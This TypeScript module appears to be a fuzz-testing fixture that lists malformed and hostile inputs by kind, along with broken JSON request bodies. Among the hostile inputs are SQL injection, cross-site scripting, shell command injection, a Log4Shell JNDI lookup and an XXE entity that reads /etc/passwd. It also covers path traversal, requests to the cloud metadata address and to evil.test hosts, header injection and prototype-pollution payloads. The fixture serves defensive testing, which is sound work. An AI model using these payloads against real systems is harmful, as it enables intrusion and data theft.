const LONG = 'x'.repeat(5000);
const packed = (text: string) => Buffer.from(text).toString('base64url');
const deep = (levels: number) => '['.repeat(levels) + ']'.repeat(levels);

/** Texts that programs have stumbled over, by what they try. */
export const NAUGHTY_BY_KIND: Record<string, string[]> = {
  nothing: ['', ' ', '\t', '\n', 'null', 'undefined', 'NaN', 'true', '[object Object]', '()', '""', "''"],
  control: ['\0', 'a\0b', '\x01\x02\x1b[31m', '\x7f', '\x85', '\u2028\u2029', '\ufeff', '\u200b', '\ufffe\uffff'],
  surrogates: ['\ud800', '\udc00', 'a\ud83d', '\ude00\ud83d', '\ud800\ud800\udc00'],
  unicode: [
    '\u202Etxt.exe',
    '\u0645\u0631\u062d\u0628\u0627',
    'Z\u0341\u0346\u036b\u0317a\u0341\u0346l\u0341g\u0346o\u0317',
    '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u{1F3F4}',
    '\u{10FFFF}',
    'Stra\u00dfe \u0130I\u0131i \uFB01',
    'e\u0301 \u00e9',
    '\uFF0E\uFF0E\uFF0F',
  ],
  numbers: [
    ...['0', '-0', '-1', '1e309', '-1e309', 'Infinity', '0x10', '1_000', '1,5', '٣', '0.1e-400'],
    ...['2147483648', '9007199254740993', '9223372036854775808', '9'.repeat(400)],
  ],
  objects: ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__proto__[admin]=1', 'then'],
  sql: [`'`, `' OR 1=1 --`, `1; DROP TABLE users; --`, `') UNION SELECT NULL::text--`, `\\'`, '%', '_', '$1', '\\x00'],
  scripts: [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    'javascript:alert(1)',
    '{{7*7}}',
    '${7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
  ],
  formats: ['%s%s%n%d', '%x%p', '{0}', '%c0%ae', '%%', '%', '%zz', '%u0041', '\\u0000', '$$', '$&'],
  paths: [
    ...['..', '.', '../../../../etc/passwd', '..\\..\\boot.ini', '....//', '/', '//', '\\', '~', 'C:\\', 'CON'],
    ...['file:///etc/passwd', '//evil.test', '/\\evil.test', 'http://evil.test', 'http://169.254.169.254/'],
  ],
  lines: ['\r\n', 'a\r\nSet-Cookie: evil=1', 'a\r\n\r\n<html>', '\n\n', 'a\rb', '%0d%0aX-Evil:%201'],
  shell: ['$(id)', '`id`', '; id', '| id', '&& id', '${jndi:ldap://evil.test/a}'],
  markup: ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', ']]>', '<?xml version="1.0"?>'],
  identifiers: [
    '00000000-0000-0000-0000-000000000000',
    'ffffffff-ffff-ffff-ffff-ffffffffffff',
    '00000000-0000-4000-8000-00000000000g',
    '{00000000-0000-4000-8000-000000000000}',
  ],
  mail: ['a@b', '@', 'a@b@c.de', '"a b"@example.com', 'a@[127.0.0.1]', 'a@example.com\nBcc: b@example.com'],
  tokens: ['a.b.c', 'eyJhbGciOiJub25lIn0.e30.', 'e30.e30.e30', '..', '====', '-', 'AAAA', 'YTpi'],
  packed: [
    ...['\0', 'a@\0', 'a@b', '{}', '[]', 'null', '-1', '9999-99-99T99:99:99.999Z_00000000-0000-4000-8000-000000000000'],
    ...['0000-01-01T00:00:00.000Z_00000000-0000-4000-8000-000000000000', '{"at":"x","id":{"$gt":""}}'],
  ].map(packed),
  addresses: [
    'fe80::1%eth0',
    '::ffff:10.0.0.1',
    '10.0.0.1:80',
    '[::1]:80',
    '0177.0.0.1',
    '1.2.3.4, ',
    '::%',
    '300.1.1.1',
  ],
  dates: ['0000-00-00', '99999-12-31T23:59:59Z', '-271821-04-20T00:00:00Z', '2026-02-30T25:61:61Z', '24:00'],
  size: [LONG, '\u{1F600}'.repeat(2000), 'e\u0301'.repeat(2000), deep(1000), ' '.repeat(5000), 'a,'.repeat(2000)],
};

export const NAUGHTY_STRINGS = [...new Set(Object.values(NAUGHTY_BY_KIND).flat())];

/** Bodies, as text or bytes, that are no decent JSON object, or are one that means something else than it seems to. */
export const NAUGHTY_BODIES: (string | Uint8Array)[] = [
  ...['', ' ', '{', '}', '[', '{"a":', '{"a":1,}', "{'a':1}", '{a:1}', 'null', 'true', '0', '-', '1e999', '"text"'],
  ...['[]', '[[]]', '[null]', '{}{}', '{} x', '// a\n{}', 'NaN', '{"a":NaN}', '{"a":01}', '"\\ud800"', '{"":""}'],
  ...['{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{"admin":true}}}', '{"a":{"__proto__":null}}'],
  ...[
    '{"toString":1}',
    '{"then":1}',
    '{"length":-1}',
    '{"\\u005f\\u005fproto\\u005f\\u005f":{}}',
    '{"a\\u0000":"\\u0000"}',
  ],
  ...[
    '\ufeff{}',
    '\u2028{}',
    '{"a":"\u0001"}',
    '{"a":"\\x00"}',
    deep(20),
    deep(21),
    deep(10_000),
    `${'{"a":'.repeat(900)}1`,
  ],
  `{${Array.from({ length: 1001 }, (_, at) => `"k${at}":1`).join()}}`,
  `{"a":${'9'.repeat(5000)}}`,
  Uint8Array.of(0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d),
  Uint8Array.of(0x7b, 0x22, 0xc3, 0x28, 0x22, 0x3a, 0x22, 0xe2, 0x82, 0x22, 0x7d),
  Uint8Array.of(0x22, 0xed, 0xa0, 0x80, 0x22),
  Uint8Array.of(0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00),
  Uint8Array.of(0x1f, 0x8b, 0x08, 0x00, 0x00),
  Uint8Array.of(0x00),
];
